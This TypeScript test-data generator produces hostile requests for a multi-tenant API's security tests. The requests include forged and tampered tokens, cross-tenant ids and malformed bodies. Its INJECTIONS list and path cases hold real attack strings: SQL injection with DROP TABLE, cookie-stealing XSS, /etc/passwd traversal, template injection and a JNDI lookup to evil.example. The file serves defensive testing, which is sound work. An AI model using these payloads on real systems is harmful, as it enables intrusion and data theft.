/**
 * The hostile-input cases of test/e2e/hostile-inputs.node.test.ts, generated from the
 * served OpenAPI document: for every operation, requests without credentials, with
 * forged, expired or tampered tokens, with another tenant's ids, and (for operations
 * with parameters or a JSON body) with fields missing, of the wrong type, oversized or
 * carrying injection payloads. Pure data: no I/O here, so this file type-checks for
 * both the Node and the workerd test programs; the test file sends the cases.
 *
 * Every case is built so that, if the API behaves, nothing can be written: cases that
 * carry a valid principal aim at tenant B's resources with tenant A's credentials
 * (A is no member of B), at tenant A's organization with B's record ids, or at
 * operations whose base request refers to nothing that exists (a random email, token
 * or refresh token). The only writes the rules admit are listed with `allow2xx`.
 */

import type { OpenApiDocument, Operation, Parameter, Schema } from "../helpers/openapi.ts";

export type { OpenApiDocument, Schema };

/** One operation of the document, with what the cases need to know about it. */
export interface OperationInfo {
  /** `POST /v1/orgs/{org}/risks` */
  readonly key: string;
  readonly method: string;
  readonly path: string;
  readonly public: boolean;
  readonly acceptsApiKey: boolean;
  /** Error codes the operation documents (its problem responses' descriptions). */
  readonly documented: ReadonlySet<string>;
  readonly jsonBody: Schema | undefined;
  readonly query: readonly Parameter[];
  readonly pathParams: readonly string[];
}

/**
 * Codes the pipeline may answer on any route, as the document's top-level description
 * says (README "One request, in order"): the WAF's refusals and inspection limits, a body
 * on a method that carries none, a slow body, a rate limit. Nothing else is accepted
 * unless the operation documents it.
 */
export const PIPELINE_CODES: ReadonlySet<string> = new Set([
  "waf_blocked",
  "inspection_limit_exceeded",
  "payload_too_large",
  "body_not_allowed",
  "request_timeout",
  "rate_limited",
]);

/** How a case authenticates: symbolic, resolved to a header by the test. */
export type Credential =
  | "none"
  /** Tenant A's real access token with its signature altered. */
  | "forged-signature"
  /** A token with A's claims signed by a key the server does not know (same `kid`). */
  | "foreign-key"
  /** A's claims, signed with the server's own key, expired an hour ago. */
  | "expired"
  /** `alg: none`, no signature. */
  | "alg-none"
  /** A's header and signature around tenant B's claims. */
  | "tampered-claims"
  /** `rk_live_` and random characters of the right shape: no such key. */
  | "forged-api-key"
  /** A user of tenant A (a member of A, not of B), from a pool (rate limits count per principal). */
  | "attacker-user"
  /** Tenant A's owner (where a member's role would be refused before the ids are looked at). */
  | "attacker-owner"
  /** An API key of tenant A (all scopes), from a pool. */
  | "attacker-key";

/** Which kind of hostile request a case is; the report counts by these. */
export type Category = "credentials" | "cross-tenant" | "body" | "query" | "path" | "signature";

export interface HostileCase {
  readonly op: OperationInfo;
  readonly category: Category;
  /** e.g. `missing:title`, `wrong-type:likelihood`, `injection:sqli:description`. */
  readonly name: string;
  readonly credential: Credential;
  /** The request target, ids filled in, query string included. */
  readonly target: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body?: string;
  /**
   * A 2xx (or a redirect) is a pass only for these cases: an injection payload in a free-text field of
   * a request that by design writes nothing (sign-up of an existing address, a reset or
   * resend request for an unknown address) or writes only the caller's own new
   * organization (POST /v1/orgs, accounted for by the test), or a payload in a query
   * parameter a public operation ignores. Every other case must be refused (4xx).
   */
  readonly allow2xx: boolean;
  /** Status codes this case must get, when narrower than "a documented 4xx" (429 is always admitted). */
  readonly statuses?: readonly number[];
}

/** Ids of one tenant, as the cases put them in paths and bodies. */
export interface TenantIds {
  readonly org: string;
  readonly user: string;
  readonly session: string;
  readonly invitation: string;
  readonly apiKey: string;
  /** Record ids by collection (`risks`, `vendors`, …). */
  readonly records: Readonly<Record<string, string>>;
}

/** What the generator needs besides the document. */
export interface CaseContext {
  readonly a: TenantIds;
  readonly b: TenantIds;
  /** Verified addresses that already have accounts (sign-up of one writes nothing). */
  readonly existingEmails: readonly string[];
  /** A fresh value each call (random emails and tokens). */
  readonly unique: () => string;
}

/** Injection payloads: the attack classes the issue names. */
export const INJECTIONS: readonly { readonly name: string; readonly value: string }[] = [
  { name: "sqli", value: "x' OR '1'='1'; DROP TABLE risks; --" },
  { name: "xss", value: '<script>alert(document.cookie)</script><img src=x onerror="alert(1)">' },
  { name: "traversal", value: "../../../../etc/passwd%00" },
  { name: "template", value: "{{7*7}}${7*7}<%= 7*7 %>#{7*7}" },
  { name: "jndi", value: "${jndi:ldap://evil.example/a}" },
];

/** Values of the wrong JSON type for a field, by the type it should have. */
function wrongTypes(schema: Schema): unknown[] {
  const types = typesOf(schema);
  if (types.includes("string")) return [12345, { $ne: "" }];
  if (types.includes("integer") || types.includes("number")) return ["3; DROP TABLE x", true];
  if (types.includes("boolean")) return ["true"];
  if (types.includes("array")) return ["not-an-array"];
  if (types.includes("object")) return [["an", "array"]];
  return [{ unexpected: true }];
}

/** How many injection cases one operation gets at most (fields × payloads, round-robin). */
const MAX_INJECTIONS_PER_OPERATION = 25;
/** 100 KiB: past every JSON route's body limit (64 KiB default). */
export const OVERSIZED_BYTES = 100 * 1024;

const UUID_FORMATS = new Set(["uuid"]);

export function typesOf(schema: Schema): string[] {
  if (schema.type === undefined) return [];
  return typeof schema.type === "string" ? [schema.type] : [...schema.type];
}

/** Resolves `$ref` and flattens `allOf` into one object schema. */
export function resolve(doc: OpenApiDocument, schema: Schema): Schema {
  if (schema.$ref !== undefined) {
    const name = schema.$ref.replace("#/components/schemas/", "");
    const target = doc.components?.schemas?.[name];
    if (target === undefined) throw new Error(`unresolved ${schema.$ref}`);
    return resolve(doc, target);
  }
  if (schema.allOf !== undefined) {
    const parts = schema.allOf.map((part) => resolve(doc, part));
    return {
      type: "object",
      properties: Object.assign({}, ...parts.map((p) => p.properties ?? {})) as Record<string, Schema>,
      required: parts.flatMap((p) => p.required ?? []),
    };
  }
  return schema;
}

/** A valid-looking value for `schema` (its example when it has one). */
export function sample(doc: OpenApiDocument, raw: Schema, ctx: CaseContext, field = ""): unknown {
  const schema = resolve(doc, raw);
  const types = typesOf(schema);
  // Objects from their required fields only (an object's example may name ids that exist only in the docs).
  if (types.includes("object") || schema.properties !== undefined) {
    const out: Record<string, unknown> = {};
    for (const name of schema.required ?? []) {
      const property = schema.properties?.[name];
      if (property !== undefined) out[name] = sample(doc, property, ctx, name);
    }
    return out;
  }
  if (schema.example !== undefined) return schema.example;
  if (schema.default !== undefined) return schema.default;
  if (schema.enum !== undefined) return schema.enum.find((v) => v !== null);
  if (types.includes("array")) return schema.items === undefined ? [] : [sample(doc, schema.items, ctx, field)];
  if (types.includes("integer") || types.includes("number")) return schema.minimum ?? 1;
  if (types.includes("boolean")) return false;
  if (types.includes("string")) {
    if (schema.format !== undefined && UUID_FORMATS.has(schema.format)) return ctx.unique();
    if (schema.format === "email") return `hostile+${ctx.unique()}@example.org`;
    if (schema.format === "date") return "2027-01-31";
    if (schema.format === "date-time") return "2026-11-01T09:00:00.000Z";
    return `hostile ${field || "value"}`.slice(0, Math.max(schema.maxLength ?? 20, 1));
  }
  return null;
}

/** Error codes an operation documents, read from its problem responses (`- \`code\`: …` lines). */
function documentedCodes(op: Operation): Set<string> {
  const codes = new Set<string>();
  for (const response of Object.values(op.responses ?? {})) {
    for (const match of (response.description ?? "").matchAll(/^- `([a-z0-9_]+)`/gm)) if (match[1] !== undefined) codes.add(match[1]);
  }
  return codes;
}

/** Every operation of the document. */
export function operationsOf(doc: OpenApiDocument): OperationInfo[] {
  const out: OperationInfo[] = [];
  for (const [path, methods] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(methods)) {
      if (!["get", "post", "put", "patch", "delete"].includes(method)) continue;
      const schemes = (op.security ?? []).flatMap((s) => Object.keys(s));
      const json = op.requestBody?.content["application/json"]?.schema;
      out.push({
        key: `${method.toUpperCase()} ${path}`,
        method: method.toUpperCase(),
        path,
        public: schemes.length === 0,
        acceptsApiKey: schemes.includes("apiKey"),
        documented: documentedCodes(op),
        jsonBody: json === undefined ? undefined : resolve(doc, json),
        query: (op.parameters ?? []).filter((p) => p.in === "query"),
        pathParams: [...path.matchAll(/\{([^}]+)\}/g)].map((m) => m[1] ?? ""),
      });
    }
  }
  return out;
}

/** The id a path parameter takes in `tenant`'s resources (`{id}` by the collection before it). */
function idFor(path: string, param: string, tenant: TenantIds, ctx: CaseContext): string {
  if (param === "org") return tenant.org;
  if (param === "user") return tenant.user;
  if (param === "version") return "1";
  if (param === "file") return "swagger-ui.css";
  if (param === "risk_id") return tenant.records.risks ?? ctx.unique();
  if (param === "evidence_id") return tenant.records.evidence ?? ctx.unique();
  if (param === "control_id") return tenant.records.controls ?? ctx.unique();
  const segments = path.split("/");
  const collection = segments[segments.indexOf(`{${param}}`) - 1] ?? "";
  if (collection === "sessions") return tenant.session;
  if (collection === "invitations") return tenant.invitation;
  if (collection === "api-keys") return tenant.apiKey;
  return tenant.records[collection] ?? ctx.unique();
}

/** `path` with its parameters filled from `pick`. */
function fill(path: string, pick: (param: string) => string): string {
  return path.replace(/\{([^}]+)\}/g, (_, name: string) => encodeURIComponent(pick(name)));
}

/** Public operations whose base request refers to nothing (random token, unknown address) and so writes nothing. */
const PUBLIC_BASES: Readonly<Record<string, (ctx: CaseContext) => Record<string, unknown>>> = {
  "POST /v1/auth/login": (ctx) => ({ email: `hostile+${ctx.unique()}@example.org`, password: `wrong ${ctx.unique()}` }),
  "POST /v1/auth/verify-email": (ctx) => ({ token: ctx.unique().replaceAll("-", "") }),
  "POST /v1/auth/verify-email/resend": (ctx) => ({ email: `hostile+${ctx.unique()}@example.org` }),
  "POST /v1/auth/mfa/verify": (ctx) => ({ mfa_token: ctx.unique().replaceAll("-", ""), code: "123456" }),
  "POST /v1/auth/token/refresh": (ctx) => ({ refresh_token: `rt_${ctx.unique().replaceAll("-", "")}` }),
  "POST /v1/auth/password-reset/request": (ctx) => ({ email: `hostile+${ctx.unique()}@example.org` }),
  "POST /v1/auth/password-reset/confirm": (ctx) => ({ token: ctx.unique().replaceAll("-", ""), new_password: `Hostile ${ctx.unique()}` }),
};

/** Requests answered 2xx by design without a write (anti-enumeration), so a payload that passes is accepted as text. */
const ACCEPTED_WITHOUT_WRITE = new Set([
  "POST /v1/auth/signup",
  "POST /v1/auth/verify-email/resend",
  "POST /v1/auth/password-reset/request",
]);

/** The one operation whose accepted injection cases write: the caller's own new organization (the test accounts for it). */
export const CREATES_OWN_ORG = "POST /v1/orgs";

/**
 * Operations a valid token must not be sent to at all: it would end the attacker's own
 * session or start an MFA enrolment (writes that are the caller's right). Only the
 * credential cases run there.
 */
const SELF_WRITES = new Set(["POST /v1/auth/logout", "POST /v1/auth/mfa/totp/enroll"]);

/** The request endpoints that are signed (not bearer-authenticated). */
const STRIPE = "POST /webhooks/stripe";
const BANK_CALLBACK = "GET /oauth/bank/callback";
const SIGNED_FILES = /^(GET|PUT) \/files\//;

/** The valid-looking base body of an operation, or undefined when it has none. */
function baseBody(
  doc: OpenApiDocument,
  op: OperationInfo,
  ctx: CaseContext,
  index: number,
  mayPass: boolean,
): Record<string, unknown> | undefined {
  if (op.jsonBody === undefined) return undefined;
  const special = PUBLIC_BASES[op.key];
  if (special !== undefined) return special(ctx);
  const body = sample(doc, op.jsonBody, ctx);
  if (typeof body !== "object" || body === null || Array.isArray(body)) return {};
  const out = { ...(body as Record<string, unknown>) };
  // A body of optional fields only (PATCH): one field, so an empty change is not what gets refused.
  const [firstField, firstSchema] = Object.entries(op.jsonBody.properties ?? {})[0] ?? [];
  if (Object.keys(out).length === 0 && firstField !== undefined && firstSchema !== undefined && op.key !== STRIPE)
    out[firstField] = sample(doc, firstSchema, ctx, firstField);
  if (op.key === "POST /v1/auth/signup") {
    // A case that may pass validation signs up an existing address (201, nothing written); the others a fresh one,
    // so the per-address limit (3 an hour) is spent only where it has to be.
    out.email = mayPass ? ctx.existingEmails[index % ctx.existingEmails.length] : `hostile+${ctx.unique()}@example.org`;
    out.password = `Hostile signup ${ctx.unique()}`;
  }
  if (op.key === "POST /v1/auth/password") out.current_password = `wrong ${ctx.unique()}`;
  if (op.key === "POST /v1/invitations/accept") out.token = ctx.unique().replaceAll("-", "");
  if (op.key === "POST /v1/auth/mfa/totp/activate") out.code = "000000";
  // Bodies naming a member or record: tenant B's (the request targets B, or A with B's ids).
  for (const [name, schema] of Object.entries(op.jsonBody.properties ?? {})) {
    const s = resolve(doc, schema);
    if (!(name in out) || s.format !== "uuid") continue;
    out[name] = /user|owner|approver/.test(name) ? ctx.b.user : ctx.unique();
  }
  return out;
}

/** String fields of a body schema (where injections and oversized values go). */
function stringFields(doc: OpenApiDocument, schema: Schema): { name: string; free: boolean; maxLength: number | undefined }[] {
  return Object.entries(schema.properties ?? {}).flatMap(([name, raw]) => {
    const s = resolve(doc, raw);
    if (!typesOf(s).includes("string")) return [];
    // Free text: no enum, pattern or format (`password` is only a hint to hide the value, not a format).
    const free = s.enum === undefined && s.pattern === undefined && (s.format === undefined || s.format === "password");
    return [{ name, free, maxLength: s.maxLength }];
  });
}

const JSON_HEADERS = { "content-type": "application/json" } as const;

/**
 * Every case for every operation of `doc`.
 *
 * @example
 * ```ts
 * const cases = generateCases(doc, ctx); // a few thousand
 * ```
 */
export function generateCases(doc: OpenApiDocument, ctx: CaseContext): HostileCase[] {
  const cases: HostileCase[] = [];
  let counter = 0;
  let bodies = 0;
  for (const op of operationsOf(doc)) {
    const add = (c: Omit<HostileCase, "op" | "headers" | "allow2xx"> & { headers?: Record<string, string>; allow2xx?: boolean }): void => {
      cases.push({ op, headers: {}, allow2xx: false, ...c });
    };
    const atPath = fill(op.path, (p) => idFor(op.path, p, ctx.b, ctx));
    // Required query parameters get valid values, so a case is refused for what it varies.
    const baseQuery = Object.fromEntries(
      op.query.filter((p) => p.required === true).map((p) => [p.name, String(sample(doc, p.schema ?? {}, ctx, p.name))]),
    );
    if (op.key === BANK_CALLBACK) baseQuery.state = ctx.unique();
    const withQuery = (query: Record<string, string>, path = atPath): string => {
      const search = new URLSearchParams(query).toString();
      return search === "" ? path : `${path}?${search}`;
    };
    const atB = withQuery(baseQuery);
    const attacker: Credential = op.public ? "none" : op.acceptsApiKey && counter++ % 2 === 1 ? "attacker-key" : "attacker-user";
    // Each body its own index: sign-ups rotate over the existing addresses (3 per address an hour).
    const bodyOf = (mayPass = true): Record<string, unknown> | undefined => baseBody(doc, op, ctx, bodies++, mayPass);
    const withBody = (body: Record<string, unknown> | undefined): { body?: string; headers?: Record<string, string> } =>
      body === undefined ? {} : { body: JSON.stringify(body), headers: { ...JSON_HEADERS } };

    // Signed endpoints: the signature is the credential.
    if (op.key === STRIPE) {
      const event = JSON.stringify({
        id: `evt_${ctx.unique()}`,
        object: "event",
        type: "customer.subscription.updated",
        data: { object: {} },
      });
      add({
        category: "signature",
        name: "stripe:no-signature",
        credential: "none",
        target: atB,
        body: event,
        headers: { ...JSON_HEADERS },
        statuses: [400],
      });
      const t = Math.floor(Date.UTC(2026, 0, 1) / 1000);
      for (const [name, sig] of [
        ["stripe:forged-signature", `t=${t},v1=${"ab".repeat(32)}`],
        ["stripe:malformed-signature", "v1=;t=notanumber"],
        ["stripe:injection-signature", `t=1,v1=${INJECTIONS[0]?.value ?? ""}`],
      ] as const) {
        add({
          category: "signature",
          name,
          credential: "none",
          target: atB,
          body: event,
          headers: { ...JSON_HEADERS, "stripe-signature": sig },
        });
      }
    }
    if (SIGNED_FILES.test(op.key)) {
      const bodyHeaders: Record<string, string> = op.method === "PUT" ? { "content-type": "text/plain" } : {};
      const body = op.method === "PUT" ? "hostile evidence\n" : undefined;
      const exp = Math.floor(Date.now() / 1000) + 3600;
      const queries = {
        "signed-url:missing": "",
        "signed-url:forged": `?exp=${exp}&act=u.${ctx.a.user}&kid=v1&sig=${"A".repeat(43)}`,
        "signed-url:expired": `?exp=1000&act=u.${ctx.b.user}&kid=v1&sig=${"A".repeat(43)}`,
        "signed-url:injection": `?exp=${exp}&kid=${encodeURIComponent("../../etc/passwd")}&sig=${encodeURIComponent("' OR 1=1--")}`,
      };
      for (const [name, query] of Object.entries(queries)) {
        add({
          category: "signature",
          name,
          credential: "none",
          target: `${atB}${query}`,
          headers: bodyHeaders,
          ...(body === undefined ? {} : { body }),
        });
      }
    }
    if (op.key === BANK_CALLBACK) {
      add({
        category: "signature",
        name: "oauth:forged-state",
        credential: "none",
        target: `${op.path}?state=${ctx.unique()}&code=abc`,
        statuses: [400],
      });
    }

    // Credentials, on tenant B's resources (if a check were skipped, this is what an attacker would reach).
    if (!op.public) {
      const body = bodyOf();
      const jwtKinds: Credential[] = ["none", "forged-signature", "foreign-key", "expired", "alg-none", "tampered-claims"];
      for (const credential of jwtKinds) {
        add({ category: "credentials", name: `credential:${credential}`, credential, target: atB, ...withBody(body), statuses: [401] });
      }
      // A forged key is checked in the handler's transaction (after validation): 401, or 422 for a body the sample gets wrong.
      add({
        category: "credentials",
        name: "credential:forged-api-key",
        credential: "forged-api-key",
        target: atB,
        ...withBody(body),
        statuses: [401, 422],
      });
    }

    // Another tenant's ids: A's principal on B's organization, and in A's organization with B's ids.
    if (!op.public && !SELF_WRITES.has(op.key) && op.pathParams.length > 0) {
      const body = bodyOf();
      add({
        category: "cross-tenant",
        name: "cross-tenant:user-on-b",
        credential: "attacker-user",
        target: atB,
        ...withBody(body),
        statuses: [403, 404],
      });
      if (op.acceptsApiKey)
        add({
          category: "cross-tenant",
          name: "cross-tenant:key-on-b",
          credential: "attacker-key",
          target: atB,
          ...withBody(body),
          statuses: [403, 404],
        });
      if (op.pathParams.includes("org") && op.pathParams.length > 1 && !op.path.startsWith("/v1/admin/")) {
        const mixed = withQuery(
          baseQuery,
          fill(op.path, (p) => (p === "org" ? ctx.a.org : idFor(op.path, p, ctx.b, ctx))),
        );
        add({
          category: "cross-tenant",
          name: "cross-tenant:a-org-with-b-ids",
          credential: "attacker-owner",
          target: mixed,
          ...withBody(body),
          statuses: [403, 404, 422],
        });
        if (op.acceptsApiKey)
          add({
            category: "cross-tenant",
            name: "cross-tenant:a-key-with-b-ids",
            credential: "attacker-key",
            target: mixed,
            ...withBody(body),
            statuses: [403, 404, 422],
          });
      }
    }

    if (SELF_WRITES.has(op.key) || SIGNED_FILES.test(op.key)) continue;

    // Path parameters that are not ids at all.
    for (const param of op.pathParams) {
      for (const [name, value] of [
        ["sqli", "1' OR '1'='1"],
        ["traversal", "..%2F..%2Fpackage.json"],
        // No attack, so the WAF lets it through: the route's own parsing of the id answers.
        ["not-an-id", "12345"],
      ] as const) {
        const target = withQuery(
          baseQuery,
          fill(op.path, (p) => (p === param ? "\u0000" : idFor(op.path, p, ctx.b, ctx))).replace("%00", value),
        );
        add({ category: "path", name: `path:${name}:${param}`, credential: attacker, target, ...withBody(bodyOf()) });
      }
    }

    // Query parameters: wrong types, required ones missing, injections, an oversized value.
    let stringParams = 0;
    for (const param of op.query) {
      const schema = resolve(doc, param.schema ?? {});
      const types = typesOf(schema);
      const wrong =
        types.includes("integer") || types.includes("number")
          ? ["abc", "-1", "1e999"]
          : types.includes("boolean")
            ? ["maybe"]
            : schema.enum !== undefined || schema.format !== undefined
              ? ["not-a-valid-value"]
              : [];
      for (const value of wrong)
        add({
          category: "query",
          name: `query:wrong-type:${param.name}=${value}`,
          credential: attacker,
          target: withQuery({ ...baseQuery, [param.name]: value }),
        });
      if (param.required === true) {
        const { [param.name]: _omitted, ...rest } = baseQuery;
        add({ category: "query", name: `query:missing:${param.name}`, credential: attacker, target: withQuery(rest) });
      }
      if (types.includes("string")) {
        // Every payload in the first string parameters, then one each (round-robin) to bound the count.
        const payloads = stringParams++ < 2 ? INJECTIONS : INJECTIONS.filter((_, i) => i === stringParams % INJECTIONS.length);
        for (const injection of payloads)
          add({
            category: "query",
            name: `query:injection:${injection.name}:${param.name}`,
            credential: attacker,
            target: withQuery({ ...baseQuery, [param.name]: injection.value }),
            allow2xx: op.public && op.key !== BANK_CALLBACK && injection.name === "template",
          });
        if (stringParams === 1)
          add({
            category: "query",
            name: `query:oversized:${param.name}`,
            credential: attacker,
            target: withQuery({ ...baseQuery, [param.name]: "q".repeat(8000) }),
          });
      }
    }
    if (op.query.length === 0) {
      // An undeclared parameter carrying attacks: the WAF inspects every query string (every
      // payload on public operations, one each, round-robin, on the others).
      const payloads = op.public ? INJECTIONS : INJECTIONS.filter((_, i) => i === counter % INJECTIONS.length);
      for (const injection of payloads)
        add({
          category: "query",
          name: `query:injection:${injection.name}:undeclared`,
          credential: attacker,
          target: withQuery({ ...baseQuery, q: injection.value }),
          ...withBody(bodyOf()),
          allow2xx: op.public && injection.name === "template" && op.method === "GET",
        });
    }

    // A body on a method that carries none.
    if (op.method === "GET" || op.method === "DELETE") {
      add({
        category: "body",
        name: "body:not-allowed",
        credential: attacker,
        target: withQuery(baseQuery),
        body: '{"a":1}',
        headers: { ...JSON_HEADERS, "content-length": "7" },
      });
      // The same body chunked (no length), on the public GETs: see KNOWN_FAILURES in the test.
      if (op.public && op.method === "GET")
        add({
          category: "body",
          name: "body:not-allowed-chunked",
          credential: attacker,
          target: withQuery(baseQuery),
          body: '{"a":1}',
          headers: { ...JSON_HEADERS, "transfer-encoding": "chunked" },
        });
    }

    // JSON bodies.
    const schema = op.jsonBody;
    if (schema === undefined) continue;
    const base = (mayPass = false): Record<string, unknown> => bodyOf(mayPass) ?? {};
    const target = atB;
    const send = (name: string, body: string, extra: { headers?: Record<string, string>; allow2xx?: boolean } = {}): void => {
      add({
        category: "body",
        name,
        credential: attacker,
        target,
        body,
        headers: { ...JSON_HEADERS, ...extra.headers },
        allow2xx: extra.allow2xx ?? false,
      });
    };
    send("body:invalid-json", '{"title": "unterminated');
    send("body:top-level-array", "[]");
    send("body:null", "null");
    send("body:wrong-content-type", JSON.stringify(base()), { headers: { "content-type": "text/plain" } });
    send("body:deep-nesting", `${"[".repeat(200)}${"]".repeat(200)}`);
    const acceptsValid = ACCEPTED_WITHOUT_WRITE.has(op.key) || op.key === CREATES_OWN_ORG;
    // Unknown keys are stripped or refused; on a request that is otherwise valid, stripped is a legitimate 2xx.
    send(
      "body:prototype-pollution",
      JSON.stringify({ ...base(true), ["__proto__"]: { admin: true }, constructor: { prototype: { admin: true } } }),
      {
        allow2xx: acceptsValid,
      },
    );
    for (const name of schema.required ?? []) {
      const { [name]: _omitted, ...rest } = base();
      send(`body:missing:${name}`, JSON.stringify(rest));
    }
    for (const [name, property] of Object.entries(schema.properties ?? {})) {
      for (const value of wrongTypes(resolve(doc, property))) send(`body:wrong-type:${name}`, JSON.stringify({ ...base(), [name]: value }));
    }
    const strings = stringFields(doc, schema);
    const first = strings[0];
    if (first !== undefined) send(`body:oversized:${first.name}`, JSON.stringify({ ...base(), [first.name]: "A".repeat(OVERSIZED_BYTES) }));
    for (const field of strings) {
      if (field.maxLength !== undefined && field.maxLength < 30_000)
        send(`body:over-max-length:${field.name}`, JSON.stringify({ ...base(), [field.name]: "b".repeat(field.maxLength + 1) }));
    }
    let injections = 0;
    for (const injection of INJECTIONS) {
      for (const field of strings) {
        if (injections >= MAX_INJECTIONS_PER_OPERATION) break;
        injections++;
        const accepted = field.free && acceptsValid;
        send(`body:injection:${injection.name}:${field.name}`, JSON.stringify({ ...base(true), [field.name]: injection.value }), {
          allow2xx: accepted,
        });
      }
    }
  }
  return cases;
}
